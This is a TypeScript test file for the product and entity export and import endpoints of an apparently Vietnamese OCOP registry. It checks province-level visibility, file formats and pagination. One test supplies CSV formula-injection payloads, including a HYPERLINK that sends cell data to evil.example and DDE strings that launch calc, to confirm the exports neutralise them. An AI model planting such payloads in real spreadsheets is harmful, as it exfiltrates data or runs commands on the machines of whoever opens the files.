import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { query } from '../../../app/db.js';
import { MEO_VAC, TAN_CUONG, entityBody, testApp, type Session, type TestApp } from '../../../../test/harness.js';
import { multipart } from './import.fixtures.js';
import { csvField } from './export.js';

let t: TestApp;
let tuyenQuang: Session;
let ours: { id: string; registrationNumber: string };
before(async () => {
  t = await testApp();
  tuyenQuang = await t.user('province', { provinceCode: '08' });
  const thaiNguyen = await t.user('province', { provinceCode: '19' });
  ours = (await t.call({ method: 'POST', url: '/api/v1/entities', body: entityBody(MEO_VAC, { name: 'HTX Mật ong bạc hà Mèo Vạc' }), as: tuyenQuang })).json();
  const theirs = (await t.call({ method: 'POST', url: '/api/v1/entities', body: entityBody(TAN_CUONG, { name: 'HTX Chè Tân Cương' }), as: thaiNguyen })).json();
  for (const [entityId, name, as] of [[ours.id, 'Mật ong bạc hà', tuyenQuang], [theirs.id, 'Chè búp Tân Cương (nháp)', thaiNguyen]] as const) {
    const res = await t.call({ method: 'POST', url: '/api/v1/products', body: { entityId, name, productSet: 4, description: 'Dòng 1\nDòng 2, có "ngoặc"' }, as });
    assert.equal(res.statusCode, 201, res.body);
  }
  // A producer's registration waiting for its commune: only Thái Nguyên sees it.
  const signup = await t.call({ method: 'POST', url: '/api/v1/auth/signup', body: { email: 'sx@test.ocop.vn', password: 'correct horse battery staple', fullName: 'Nguyễn Văn Sản', entity: entityBody(TAN_CUONG, { name: 'Hộ Chờ Duyệt' }) } });
  assert.equal(signup.statusCode, 202, signup.body);
});
after(() => t.close());

async function sheetOf(bytes: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const ws = wb.worksheets[0];
  const rows: string[][] = [];
  ws.eachRow((row) => rows.push((row.values as unknown[]).slice(1).map((v) => (v instanceof Date ? v.toISOString().slice(0, 10) : String(v ?? '')))));
  return { name: ws.name, rows };
}

test('product export: xlsx and CSV hold what the officer may see, no other province\'s drafts', async () => {
  const xlsx = await t.call({ url: '/api/v1/products/export?format=xlsx', as: tuyenQuang });
  assert.equal(xlsx.statusCode, 200, xlsx.body);
  assert.match(String(xlsx.headers['content-type']), /spreadsheetml/);
  assert.match(String(xlsx.headers['content-disposition']), /^attachment; filename="san-pham-\d{8}\.xlsx"/);
  const sheet = await sheetOf(xlsx.rawPayload);
  assert.equal(sheet.name, 'Sản phẩm');
  assert.deepEqual(sheet.rows[0].slice(0, 4), ['Mã sản phẩm', 'Số ĐKKD chủ thể', 'Tên sản phẩm', 'Bộ sản phẩm']);
  const names = sheet.rows.slice(1).map((r) => r[2]);
  assert.deepEqual(names, ['Mật ong bạc hà']);
  assert.equal(sheet.rows[1][1], ours.registrationNumber);
  assert.equal(sheet.rows[1][8], 'Nháp');

  const csv = await t.call({ url: '/api/v1/products/export?format=csv', as: tuyenQuang });
  assert.equal(csv.statusCode, 200);
  assert.match(String(csv.headers['content-type']), /^text\/csv; charset=utf-8/);
  assert.deepEqual([...csv.rawPayload.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM for Excel');
  const text = csv.rawPayload.toString('utf8').slice(1);
  assert.ok(text.startsWith('Mã sản phẩm,Số ĐKKD chủ thể,Tên sản phẩm,Bộ sản phẩm,'));
  assert.match(text, /"Dòng 1\nDòng 2, có ""ngoặc"""/);
  assert.ok(!text.includes('Tân Cương'), 'another province\'s draft stays out');

  // The central office sees both; filters apply as in the list.
  const central = await t.user('central');
  const all = (await t.call({ url: '/api/v1/products/export?format=csv', as: central })).rawPayload.toString('utf8');
  assert.ok(all.includes('Tân Cương') && all.includes('Mật ong bạc hà'));
  const filtered = (await t.call({ url: '/api/v1/products/export?format=csv&province=19&q=che', as: central })).rawPayload.toString('utf8');
  assert.ok(filtered.includes('Tân Cương') && !filtered.includes('Mật ong bạc hà'));
  assert.equal((await t.call({ url: '/api/v1/products/export?format=pdf', as: central })).statusCode, 400);
  assert.equal((await t.call({ url: '/api/v1/products/export' })).statusCode, 401);
});

test('entity export hides other provinces\' pending registrations and imports back as updates', async () => {
  const csv = (await t.call({ url: '/api/v1/entities/export?format=csv', as: tuyenQuang })).rawPayload.toString('utf8');
  assert.ok(!csv.includes('Hộ Chờ Duyệt'), 'a pending entity of Thái Nguyên is not Tuyên Quang\'s to see');
  assert.ok(csv.includes('HTX Chè Tân Cương'), 'approved entities are public');
  const thaiNguyen = await t.user('province', { provinceCode: '19' });
  assert.ok((await t.call({ url: '/api/v1/entities/export?format=csv', as: thaiNguyen })).rawPayload.toString('utf8').includes('Hộ Chờ Duyệt'));

  // Edit the export in "Excel" and upload it: the officer's own entity is updated, the others are outside the area.
  const res = await t.call({ url: `/api/v1/entities/export?format=xlsx&province=08`, as: tuyenQuang });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  const ws = wb.getWorksheet('Chủ thể')!;
  assert.equal(ws.rowCount, 2);
  assert.equal(ws.getCell('D2').value instanceof Date, true, 'the registration date is a real date cell');
  ws.getCell('B2').value = 'HTX Mật ong Mèo Vạc (sửa)';
  const { body, headers } = multipart(Buffer.from(await wb.xlsx.writeBuffer()), 'chu-the.xlsx');
  const preview = (await t.call({ method: 'POST', url: '/api/v1/imports/preview', body: body as never, headers, as: tuyenQuang })).json();
  assert.deepEqual(preview.totals, { rows: 1, create: 0, update: 1, unchanged: 0, duplicates: 0, errors: 0 }, JSON.stringify(preview.first.rows));
  const done = await t.call({ method: 'POST', url: `/api/v1/imports/${preview.id}/commit`, as: tuyenQuang });
  assert.deepEqual(done.json(), { created: 0, updated: 1, unchanged: 0 });
  const after_ = (await t.call({ url: `/api/v1/entities/${ours.id}`, as: tuyenQuang })).json();
  assert.equal(after_.name, 'HTX Mật ong Mèo Vạc (sửa)');
  assert.equal(after_.registrationDate, '2019-03-15');
  assert.equal(after_.representative.fullName, 'Sùng Thị Mỷ');
  assert.equal(after_.version, 2);

  // The product export reads back too: its rows are the same products, unchanged (the commit would write nothing).
  const products = await t.call({ url: '/api/v1/products/export?province=08', as: tuyenQuang });
  const again = multipart(products.rawPayload, 'san-pham.xlsx');
  const p = (await t.call({ method: 'POST', url: '/api/v1/imports/preview', body: again.body as never, headers: again.headers, as: tuyenQuang })).json();
  assert.deepEqual(p.totals, { rows: 1, create: 0, update: 0, unchanged: 1, duplicates: 0, errors: 0 }, JSON.stringify(p.first.rows));
});

test('a cell a spreadsheet would run as a formula (=, +, -, @, tab, CR) is neutralised in CSV; xlsx cells stay text', async () => {
  // Through the API: names and a phone number starting with each sign an attacker (or a phone) can send.
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
  const e = (await t.call({ method: 'POST', url: '/api/v1/entities', body: entityBody(MEO_VAC, { name: hostile[0], phone: '+84 912 345 678' }), as: tuyenQuang })).json();
  for (const name of hostile) {
    const res = await t.call({ method: 'POST', url: '/api/v1/products', body: { entityId: e.id, name, productSet: 4 }, as: tuyenQuang });
    assert.equal(res.statusCode, 201, res.body);
  }
  const csv = (await t.call({ url: '/api/v1/products/export?format=csv&province=08', as: tuyenQuang })).rawPayload.toString('utf8');
  const cells = csv.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)|\r\n/).map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"'));
  for (const name of hostile) assert.ok(cells.includes(`'${name}`), `${name} is written as text`);
  assert.ok(!cells.some((c) => /^[=+\-@\t\r]/.test(c)), 'no cell starts with a formula sign');
  const entities = (await t.call({ url: '/api/v1/entities/export?format=csv&province=08', as: tuyenQuang })).rawPayload.toString('utf8');
  assert.ok(entities.includes("'+84 912 345 678"), 'a phone number starting with + is text too');

  // The workbook writes every one of them as a string cell, never a formula.
  const xlsx = await t.call({ url: '/api/v1/products/export?format=xlsx&province=08', as: tuyenQuang });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
  const found = new Map<string, ExcelJS.ValueType>();
  wb.worksheets[0].eachRow((row) => row.eachCell((cell) => { if (typeof cell.value === 'string' || cell.formula) found.set(String(cell.formula ?? cell.value), cell.type); }));
  for (const name of hostile) assert.equal(found.get(name), ExcelJS.ValueType.String, `${name} is a string cell`);
  assert.ok(![...found.values()].includes(ExcelJS.ValueType.Formula));
});

test('csvField: every formula start, numbers and dates', () => {
  assert.equal(csvField('=1+1'), "'=1+1");
  assert.equal(csvField('+84 912 345 678'), "'+84 912 345 678");
  assert.equal(csvField('-5'), "'-5");
  assert.equal(csvField('@A1'), "'@A1");
  assert.equal(csvField('\tTab'), "'\tTab");
  assert.equal(csvField('\r=1+1'), "\"'\r=1+1\"");
  assert.equal(csvField('Mật ong = ngọt'), 'Mật ong = ngọt');
  assert.equal(csvField(-5), '-5', 'a number is a number');
  assert.equal(csvField(4), '4');
  assert.equal(csvField(new Date('2019-03-15T00:00:00Z')), '15/03/2019');
  assert.equal(csvField(null), '');
});

test('an export longer than its page size (1,000) carries every product exactly once, in the list\'s order', async () => {
  const many = (await t.call({ method: 'POST', url: '/api/v1/entities', body: entityBody(MEO_VAC, { name: 'HTX Xuất nhiều' }), as: tuyenQuang })).json();
  await query(t.database.db, sql`
    INSERT INTO product (code, entity_id, name, product_set, province_code, commune_code, status)
    SELECT 'EXP-' || lpad(g::text, 5, '0'), ${many.id}::uuid, 'Mật ong ' || g, 4, '08', ${MEO_VAC}, 'registered' FROM generate_series(1, 2345) AS g`);
  for (const sort of ['code', '-updatedAt']) {
    const csv = await t.call({ url: `/api/v1/products/export?format=csv&entity=${many.id}&sort=${sort}`, as: tuyenQuang });
    assert.equal(csv.statusCode, 200, csv.body);
    const codes = csv.rawPayload.toString('utf8').split('\n').slice(1).filter(Boolean).map((line) => line.split(',')[0]);
    assert.equal(codes.length, 2345, sort);
    assert.equal(new Set(codes).size, 2345, `${sort}: no row twice`);
    if (sort === 'code') assert.deepEqual(codes, [...codes].sort());
  }
  await query(t.database.db, sql`DELETE FROM product WHERE entity_id = ${many.id}`);
  await query(t.database.db, sql`DELETE FROM entity WHERE id = ${many.id}`);
});
